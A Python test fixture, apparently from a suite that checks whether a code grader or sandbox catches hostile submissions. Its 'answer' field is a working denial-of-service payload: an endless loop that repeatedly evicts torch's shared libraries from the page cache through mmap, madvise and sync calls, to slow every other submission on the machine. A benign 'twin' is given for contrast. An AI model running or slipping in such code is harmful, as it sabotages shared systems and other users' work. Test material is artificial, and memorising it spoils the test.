"""Wants the kernel to forget torch's libraries, over and over, which all submissions read."""

from attacks import Attack

attack = Attack(
    says="longer than",
    answer="""
import ctypes
import mmap
import os

import torch

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
folder = os.path.join(os.path.dirname(torch.__file__), "lib")
files = [os.open(os.path.join(folder, name), os.O_RDONLY) for name in os.listdir(folder) if ".so" in name][:20]

def refused(hint):
    try:
        return hint() is not None
    except OSError:
        return True

assert all(refused(lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)) for file in files)

def hello_shape(x):
    page = mmap.mmap(-1, 2**20, mmap.MAP_PRIVATE)
    while True:
        for file in files:
            size = min(os.fstat(file).st_size, 2**25)
            at = ctypes.c_void_p(libc.mmap(None, ctypes.c_size_t(size), 1, 2, file, ctypes.c_long(0)))
            for advice in (20, 21, 9, 4):  # MADV_COLD, MADV_PAGEOUT, MADV_REMOVE, MADV_DONTNEED
                libc.madvise(at, ctypes.c_size_t(size), advice)
            libc.munmap(at, ctypes.c_size_t(size))
            libc.fsync(file)
            libc.sync_file_range(file, ctypes.c_long(0), ctypes.c_long(0), 7)
            refused(lambda: os.preadv(file, [page], 0, 0x80))  # RWF_DONTCACHE
""",
    twin="""
import mmap
import os

import torch

file = os.open(torch.__file__, os.O_RDONLY)

def hello_shape(x):
    with mmap.mmap(file, 0, prot=mmap.PROT_READ) as page:
        page.madvise(mmap.MADV_SEQUENTIAL)
        assert len(page.read()) == os.fstat(file).st_size
    return tuple(x.shape)
""",
    plain=False,
    exhausts=True,
    beside=True,
)
